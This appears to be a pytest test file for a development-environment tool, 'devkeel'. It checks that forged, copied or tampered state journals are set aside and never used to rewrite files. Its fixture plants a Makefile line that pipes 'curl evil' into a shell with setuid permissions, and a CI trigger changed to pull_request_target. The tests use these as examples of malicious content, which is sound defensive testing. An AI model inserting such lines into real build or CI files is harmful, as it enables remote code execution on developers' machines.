"""Records that this user's devkeel did not write here: nothing of them is acted on, and they are in no one's way."""

from __future__ import annotations

import hashlib
import os
import shutil
import sqlite3
import zlib
from contextlib import closing
from typing import TYPE_CHECKING, Any

import pytest

from devkeel import origin
from devkeel.environment import Environment
from devkeel.errors import StateError, UsageError
from devkeel.project import Project
from devkeel.transaction import Transactions, schema

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

PLANTED = {
    "Makefile": ("all:\n\ttrue\n", "all:\n\tcurl evil | sh\n", 0o4755),
    ".github/workflows/ci.yml": ("on: push\n", "on: [push, pull_request_target]\n", 0o644),
    "devkeel.toml": ('protected = ["env"]\n', "", 0o644),
    "devenv.yaml": ("inputs: {}\n", None, 0o644),
}
TOKEN = "0123456789abcdef"  # noqa: S105
_V1 = schema._TABLES.replace(",\n    mark TEXT NOT NULL", "")


@pytest.fixture
def clone(root: Path) -> Path:
    """A clone that brings files in the state that a forged journal calls new."""
    for name, (now, _, mode) in PLANTED.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(now)
        path.chmod(mode & 0o777)
    return root


def forge(root: Path, state: str = "pending", *, sealed: bool = False) -> None:
    """Write a database that says of each planted file: what is there is ours, and this is what it was before."""
    folder = root / ".devkeel"
    folder.mkdir(exist_ok=True)
    with closing(sqlite3.connect(folder / "state.db", isolation_level=None)) as connection:
        connection.executescript(schema._TABLES if sealed else _V1)
        connection.execute(f"PRAGMA user_version = {2 if sealed else 1}")
        values = [1, TOKEN, state, "2026-01-01T00:00:00+00:00", "edit", "devkeel", None]
        values += ["[]", "{}", "0", "1", None, 1, 1, *(["0" * 64] if sealed else [])]
        holes = ", ".join("?" * len(values))
        connection.execute(f"INSERT INTO operation VALUES ({holes})", values)  # noqa: S608
        for number, (name, (now, before, mode)) in enumerate(PLANTED.items()):
            hashes = [keep(connection, text) for text in (before, now)]
            connection.execute("INSERT INTO file VALUES (1, ?, ?, ?, ?, ?, ?)", (number, name, *hashes, mode, mode))


def keep(connection: sqlite3.Connection, text: str | None) -> str | None:
    if text is None:
        return None
    name = hashlib.sha256(text.encode()).hexdigest()
    connection.execute("INSERT OR IGNORE INTO blob VALUES (?, ?)", (name, zlib.compress(text.encode())))
    return name


def planted(root: Path) -> dict[str, tuple[bytes, int]]:
    return {name: ((root / name).read_bytes(), (root / name).stat().st_mode) for name in PLANTED}


def opened(root: Path) -> Environment:
    return Environment(root, actor="test")


def add(root: Path, name: str = "jq") -> Any:
    from devkeel.edits import parse_edits

    environment = opened(root)
    try:
        return environment.change(parse_edits([{"kind": "add_packages", "names": [name]}]), level="syntax")
    finally:
        environment.close()


def operations(root: Path) -> list[int]:
    with Transactions(Project(root)) as transactions:
        return [item.id for item in transactions.history()]


@pytest.mark.parametrize("state", ["pending", "published", "abandoned"])
@pytest.mark.parametrize("sealed", [False, True])
def test_a_forged_journal_is_set_aside_by_the_next_write(clone: Path, state: str, *, sealed: bool) -> None:
    forge(clone, state, sealed=sealed)
    forged = (clone / ".devkeel/state.db").read_bytes()
    before = planted(clone)
    result = add(clone)
    assert result.published
    assert planted(clone) == before
    assert operations(clone) == [1]
    (aside,) = (clone / ".devkeel" / origin.ASIDE).iterdir()
    assert (aside / "state.db").read_bytes() == forged
    assert any(str(aside.relative_to(clone)) in note for note in result.notes)


def test_a_forged_journal_that_is_read_is_reported_and_nothing_is_made(clone: Path) -> None:
    forge(clone)
    before = {path: path.stat().st_mtime_ns for path in clone.rglob("*")}
    environment = opened(clone)
    assert environment.history().operations == ()
    assert not environment.history().recovery_pending
    found = environment.inspect()
    assert found.last_operation is None
    assert [item.code for item in found.problems if item.place and item.place.file == ".devkeel"] == ["foreign_records"]
    environment.close()
    assert {path: path.stat().st_mtime_ns for path in clone.rglob("*")} == before


def test_leftovers_of_a_forged_operation_are_not_swept(clone: Path) -> None:
    forge(clone, "published")
    left = clone / f".devkeel-{TOKEN}-0.tmp"
    left.write_text("mine\n")
    add(clone)
    assert left.read_text() == "mine\n"


def test_an_undo_of_forged_history_writes_nothing(clone: Path) -> None:
    forge(clone, "published")
    before = planted(clone)
    environment = opened(clone)
    for work in (environment.undo, lambda: environment.undo(1), lambda: environment.restore(1)):
        with pytest.raises(UsageError) as caught:
            work()
        assert caught.value.code in ("nothing_to_undo", "unknown_operation")
    environment.close()
    assert planted(clone) == before


def test_what_another_key_sealed_is_not_believed(clone: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    with monkeypatch.context() as context:
        context.setenv("XDG_STATE_HOME", str(tmp_path / "another"))
        add(clone)
        assert operations(clone) == [1]
    assert operations(clone) == []
    assert origin.standing(clone / ".devkeel").foreign
    add(clone, "fd")
    assert operations(clone) == [1]
    with monkeypatch.context() as context:  # and back: each believes its own
        context.setenv("XDG_STATE_HOME", str(tmp_path / "another"))
        assert operations(clone) == []


def copy_rows(source: Path, target: Path) -> None:
    shutil.copyfile(source / ".devkeel/state.db", target / ".devkeel/state.db")


def test_rows_of_another_project_of_the_same_user_are_not_believed(clone: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / "devenv.nix").write_text((clone / "devenv.nix").read_text())
    add(other)
    add(clone, "fd")
    copy_rows(other, clone)
    assert operations(clone) == []
    assert add(clone, "yq").published
    assert operations(clone) == [1]


@pytest.mark.parametrize(
    "column",
    ["token", "state", "time", "kind", "actor", "reason", "edits", "report", "revision_after", "reverts", "applies"],
)
def test_a_row_that_was_changed_loses_its_seal(clone: Path, column: str) -> None:
    add(clone)
    values: Mapping[str, Any] = {"state": "abandoned", "edits": "[1]", "report": "{}", "applies": 0, "reverts": 1}
    with closing(sqlite3.connect(clone / ".devkeel/state.db", isolation_level=None)) as connection:
        connection.execute(f"UPDATE operation SET {column} = ?", (values.get(column, "restore"),))  # noqa: S608
    assert operations(clone) == []
    with Transactions(Project(clone)) as transactions:
        assert transactions.standing().foreign


@pytest.mark.parametrize("column", ["path", "before_hash", "after_hash", "mode_before", "mode_after"])
def test_an_image_that_was_changed_loses_the_seal_of_its_operation(clone: Path, column: str) -> None:
    add(clone)
    with closing(sqlite3.connect(clone / ".devkeel/state.db", isolation_level=None)) as connection:
        value = 0o4755 if "mode" in column else "Makefile"
        connection.execute(f"UPDATE file SET {column} = ?", (value,))  # noqa: S608
    assert operations(clone) == []


def test_an_older_row_that_was_changed_is_an_error_of_the_records(clone: Path) -> None:
    add(clone)
    add(clone, "fd")
    with closing(sqlite3.connect(clone / ".devkeel/state.db", isolation_level=None)) as connection:
        connection.execute("UPDATE operation SET actor = 'somebody' WHERE id = 1")
    with pytest.raises(StateError) as caught:
        operations(clone)
    assert caught.value.code == "foreign_records"
    with Transactions(Project(clone)) as transactions:
        assert len(transactions.damage()) == 1


def test_a_moved_project_keeps_its_history(clone: Path, tmp_path: Path) -> None:
    add(clone)
    moved = tmp_path / "elsewhere"
    clone.rename(moved)
    assert operations(moved) == [1]
    add(moved, "fd")
    assert operations(moved) == [2, 1]
    assert not (moved / ".devkeel" / origin.ASIDE).exists()


def test_a_project_copied_whole_keeps_its_history(clone: Path, tmp_path: Path) -> None:
    add(clone)
    shutil.copytree(clone, tmp_path / "copy", symlinks=True)
    assert operations(tmp_path / "copy") == [1]
    add(tmp_path / "copy", "fd")
    assert operations(clone) == [1]


def test_a_link_in_place_of_the_seal_is_not_followed(clone: Path, tmp_path: Path) -> None:
    add(clone)
    (clone / ".devkeel/project.json").rename(tmp_path / "project.json")
    (clone / ".devkeel/project.json").symlink_to(tmp_path / "project.json")
    assert operations(clone) == []


def test_records_of_another_user_are_refused_and_left_where_they_are(clone: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to give files away")
    forge(clone)
    os.chown(clone / ".devkeel", 65534, 65534)
    before = planted(clone)
    with pytest.raises(StateError) as caught:
        add(clone)
    assert caught.value.code == "foreign_records"
    assert "devkeel adopt" in (caught.value.remedy or "")
    assert planted(clone) == before
    assert (clone / ".devkeel/state.db").exists()


@pytest.mark.parametrize("name", ["applied.json", "envs", "jobs", "gc", "bin", "anything"])
def test_whatever_came_in_the_state_directory_goes_aside_whole(clone: Path, name: str) -> None:
    (clone / ".devkeel" / name / "inner").mkdir(parents=True)
    (clone / ".devkeel" / name).chmod(0o555)
    add(clone)
    (aside,) = (clone / ".devkeel" / origin.ASIDE).iterdir()
    assert (aside / name / "inner").is_dir()
    assert not (clone / ".devkeel" / name).exists()


@pytest.mark.parametrize("kind", ["link", "file"])
def test_a_place_for_what_goes_aside_that_is_no_folder_goes_aside_too(clone: Path, tmp_path: Path, kind: str) -> None:
    forge(clone)
    place = clone / ".devkeel" / origin.ASIDE
    if kind == "link":
        (tmp_path / "outside").mkdir()
        place.symlink_to(tmp_path / "outside")
    else:
        place.write_text("")
    add(clone)
    assert operations(clone) == [1]
    if kind == "link":
        assert list((tmp_path / "outside").iterdir()) == []
